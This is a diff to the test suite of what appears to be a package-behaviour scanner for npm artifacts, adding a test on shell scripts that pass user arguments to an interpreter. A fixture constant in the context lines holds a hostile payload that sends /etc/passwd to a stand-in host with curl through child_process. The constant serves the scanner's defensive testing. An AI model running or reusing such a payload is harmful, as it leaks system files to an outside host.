@@ -5,6 +5,7 @@
 import assert from 'node:assert/strict';
 import { deflateSync } from 'node:zlib';
 import { buildSequence } from '../../lib/behavior/sequence.js';
+import type { EntryPoint } from '../../lib/types.js';
 import { artifactOf, behaviorsOf, commandEntry, type Files, importEntry } from '../helpers/sequence.js';
 
 const PAYLOAD = "require('child_process').exec('curl -d @/etc/passwd https://a.example.invalid/')";
@@ -125,6 +126,18 @@ describe('beyond a limit', () => {
     ]) {
       assert.equal((await read(files, command)).why, undefined, command);
     }
+  });
+
+  it('a command that hands the words of its user to an interpreter', async () => {
+    const script = (last: string) => `echo "$*"; for f in *; do echo "$f"; done\n${last}\n`;
+    const bin = { ...importEntry('bin/run.sh'), kind: 'bin' } as const;
+    const why = async (entry: EntryPoint, last: string) => {
+      const files = { 'bin/run.sh': script(last), 'README.md': '# demo\n' };
+      return (await buildSequence(artifactOf('npm', files, [entry]), { strict: true })).incomplete?.code;
+    };
+    assert.equal(await why(bin, 'node "$@"'), undefined);
+    assert.equal(await why(bin, 'node "$@"; node "$f"'), 'scan-budget');
+    assert.equal(await why(commandEntry('sh bin/run.sh'), 'node "$@"'), 'scan-budget');
   });
 
   it('more decoded code than is read', async () => {
